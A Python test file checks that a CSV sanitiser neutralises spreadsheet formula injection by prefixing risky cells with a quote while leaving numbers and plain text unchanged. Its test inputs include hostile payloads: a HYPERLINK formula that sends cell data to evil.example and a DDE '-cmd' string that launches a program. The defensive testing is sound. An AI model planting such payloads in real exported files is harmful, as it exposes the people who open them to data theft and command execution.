"""CSV cells that a spreadsheet would run as formulas are neutralised; numbers are not."""

from __future__ import annotations

import pandas as pd
import pytest

from tocsin.domain import spreadsheet_safe, spreadsheet_safe_csv, spreadsheet_safe_frame


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+1 555 0100",
        "-2+3",
        "-cmd|' /C calc'!A0",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
        "=",
    ],
)
def test_formulas_get_a_leading_quote(value: str) -> None:
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["-3", "+1.5", "-0.25", "-2e-3", ".5", "Bangui", "", "'=already", "a=b", 7, -3.5]
)
def test_numbers_and_plain_text_stay(value: object) -> None:
    assert spreadsheet_safe(value) == value


def test_csv_text_and_frames() -> None:
    text = 'a,b\r\n"=1+1",-3\r\n"x, ""=y""",@z\r\n'
    assert spreadsheet_safe_csv(text) == 'a,b\r\n\'=1+1,-3\r\n"x, ""=y""",\'@z\r\n'
    assert spreadsheet_safe_csv("a\n-1\n=2\n") == "a\n-1\n'=2\n"
    frame = pd.DataFrame({"text": ["=1", "-3", None], "n": [-3, 1, 2], "x": [-1.5, 0.0, 2.0]})
    safe = spreadsheet_safe_frame(frame)
    assert safe["text"].tolist()[:2] == ["'=1", "-3"] and pd.isna(safe["text"].iloc[2])
    assert safe["n"].tolist() == [-3, 1, 2] and safe["n"].dtype == frame["n"].dtype
    assert frame["text"].iloc[0] == "=1"  # the caller's frame is left as it was
